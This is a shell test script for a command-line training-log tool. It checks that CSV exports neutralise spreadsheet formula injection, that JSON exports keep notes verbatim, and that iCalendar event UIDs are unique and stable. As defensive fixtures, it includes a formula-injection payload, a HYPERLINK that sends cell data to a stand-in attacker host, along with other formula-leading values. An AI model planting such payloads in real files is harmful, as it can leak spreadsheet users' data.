#!/bin/sh
# SPDX-License-Identifier: GPL-3.0-or-later
# tests/cli/export_safe.sh - exports that are safe to open: CSV cells a
# spreadsheet would run as formulas are neutralised; iCalendar UIDs are
# unique per event and the same at every export.
. "$top_srcdir/tests/lib.sh"
NOW=2026-09-14T08:00
k() { "$KNEAD" --db "$DB" --now $NOW "$@" >/dev/null; }

k log run 10km 52:30 --note '=HYPERLINK("http://evil.example/?"&A1,"click")'
k log run 5km 30:00 --date 2026-09-10 --note '+1 with Anna'
k log sore calf:left 4 --date 2026-09-13 --note '@SUM(1+1)'
k log massage sports --date 2026-09-01 --therapist '-Élise' --note "	tab first"
k race add 2026-09-20 "=1+2 Marathon" 42.195km --priority A
k race add 2026-10-18 "Demi d'automne" 21.1km --priority B

run export
is "$rc" 0 "export CSV"
csv=$out
like "$csv" "\"'=HYPERLINK\\(\"\"http://evil" "a note starting with = gets an apostrophe"
like "$csv" ",'\\+1 with Anna" "so does one starting with +"
like "$csv" ",'@SUM\\(1\\+1\\)" "and with @"
like "$csv" ",'-Élise," "a therapist starting with -"
like "$csv" "'	tab first" "a note starting with a tab"
like "$csv" ",'=1\\+2 Marathon," "a race name"
like "$csv" "race,2,2026-10-18,,21100,,,,,,,,,,,,Demi d'automne,B," "plain text is left as it is"
unlike "$(printf '%s\n' "$csv" | cut -d, -f5-6)" "'" "numbers are never touched"
run export --format json
is "$(printf '%s' "$out" | jq -r '.runs[1].note')" '=HYPERLINK("http://evil.example/?"&A1,"click")' \
	"JSON keeps the note exactly"

# iCalendar: one UID per event, and the same ones next time.
uids() { "$KNEAD" --db "$DB" --now "$1" export --ics | sed -n 's/^UID://p' | tr -d '\r'; }
first=$(uids $NOW)
is "$(printf '%s\n' "$first" | wc -l | tr -d ' ')" 3 "three events: the next massage and two race windows"
is "$(printf '%s\n' "$first" | sort -u | wc -l | tr -d ' ')" 3 "each with its own UID"
unlike "$first" "^next-massage@knead$" "not the one UID every user had"
is "$(uids $NOW)" "$first" "the same UIDs at the next export"
is "$(uids 2026-09-15T08:00)" "$first" "and the next day"
k log massage flush --date 2026-09-14
second=$(uids $NOW)
old=$(printf '%s\n' "$first" | grep '^next-massage')
new=$(printf '%s\n' "$second" | grep '^next-massage')
ok "$([ -n "$new" ] && [ "$new" != "$old" ]; echo $?)" "after a massage, the next one is a new event"
is "$(printf '%s\n' "$second" | grep '^no-deep')" "$(printf '%s\n' "$first" | grep '^no-deep')" \
	"the race windows keep theirs"

done_testing
